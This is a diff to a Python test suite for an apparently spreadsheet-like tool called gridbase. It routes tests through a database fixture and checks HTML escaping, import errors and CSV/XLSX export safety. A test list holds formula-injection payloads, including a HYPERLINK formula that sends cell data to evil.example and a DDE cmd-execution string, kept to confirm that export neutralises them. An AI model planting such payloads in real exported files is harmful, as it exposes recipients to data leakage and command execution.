@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import sqlite3
 import warnings
 from collections.abc import Callable
 from pathlib import Path
@@ -140,9 +139,9 @@ def test_html_in_every_text_like_value_round_trips_as_text(ws: Workspace) -> Non
         pytest.fail(f"a javascript: URL was stored: {stored['site']!r}")
 
 
-def test_retype_to_rich_long_text_keeps_text_inert(tmp_path: Path) -> None:
+def test_retype_to_rich_long_text_keeps_text_inert(tmp_path: Path, database: Callable[[], str | Path]) -> None:
     root = write_workspace(tmp_path / "ws", {"t": BASE})
-    db = tmp_path / "r.db"
+    db = database()
     ws = Workspace.open(root, db=db)
     ws.apply()
     rec = ws.base("t").table("items").create({"title": "r", "body": HTML}, actor="admin")
@@ -224,19 +223,20 @@ def test_html_is_escaped_on_record_page_and_form(ws: Workspace) -> None:
     ("nomatch.csv", b"who,what\n1,2\n", "column .who. matches no field"),
 ])
 def test_broken_import_files_are_refused_and_import_nothing(tmp_path: Path, name: str, content: bytes,
-                                                               message: str) -> None:
+                                                               message: str, database: Callable[[], str | Path]) -> None:
     root = write_workspace(tmp_path / "ws", {"t": BASE})
+    db = database()
     path = tmp_path / name
     path.write_bytes(content)
-    result = gridbase("import", str(root), "t.items", str(path), "--as", "admin")
+    result = gridbase("import", str(root), "t.items", str(path), "--as", "admin", "--db", str(db))
     assert result.returncode == 1, (result.stdout, result.stderr)
     assert re.search(message, result.stderr), result.stderr
     assert "Traceback" not in result.stderr and "internal error" not in result.stderr
-    conn = sqlite3.connect(root / "data" / "gridbase.db")
+    ws = Workspace.open(root, db=db)
     try:
-        assert conn.execute('SELECT count(*) FROM "t__items"').fetchone()[0] == 0
+        assert ws.storage.conn.execute('SELECT count(*) FROM "t__items"').fetchone()[0] == 0
     finally:
-        conn.close()
+        ws.close()
 
 
 def test_header_only_csv_imports_zero_rows(tmp_path: Path) -> None:
@@ -253,9 +253,10 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!
              "\t=1+1", "\r=1+1"]
 
 
-def test_export_neutralises_formula_injection(tmp_path: Path) -> None:
+def test_export_neutralises_formula_injection(tmp_path: Path, database: Callable[[], str | Path]) -> None:
     root = write_workspace(tmp_path / "ws", {"t": BASE})
-    ws = Workspace.open(root)
+    db = database()
+    ws = Workspace.open(root, db=db)
     ws.apply()
     table = ws.base("t").table("items")
     for text in DANGEROUS:
@@ -263,8 +264,8 @@ def test_export_neutralises_formula_injection(tmp_path: Path) -> None:
     ws.close()
     out_csv = tmp_path / "out.csv"
     out_xlsx = tmp_path / "out.xlsx"
-    assert gridbase("export", str(root), "t.items", "--out", str(out_csv)).returncode == 0
-    done = gridbase("export", str(root), "t.items", "--format", "xlsx", "--out", str(out_xlsx))
+    assert gridbase("export", str(root), "t.items", "--out", str(out_csv), "--db", str(db)).returncode == 0
+    done = gridbase("export", str(root), "t.items", "--format", "xlsx", "--out", str(out_xlsx), "--db", str(db))
     assert done.returncode == 0, done.stderr
     rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"), newline="")))
     cells = [c for row in rows[1:] for c in row[:2]]
@@ -366,9 +367,9 @@ def test_cli_never_shows_a_traceback_for_bad_arguments(tmp_path: Path) -> None:
         assert result.stderr.startswith("error:"), (args, result.stderr)
 
 
-def test_gridbase_error_type_for_import_of_missing_table(tmp_path: Path) -> None:
+def test_gridbase_error_type_for_import_of_missing_table(tmp_path: Path, database: Callable[[], str | Path]) -> None:
     root = write_workspace(tmp_path / "ws", {"t": BASE})
-    ws = Workspace.open(root)
+    ws = Workspace.open(root, db=database())
     try:
         ws.apply()
         with pytest.raises(GridbaseError):
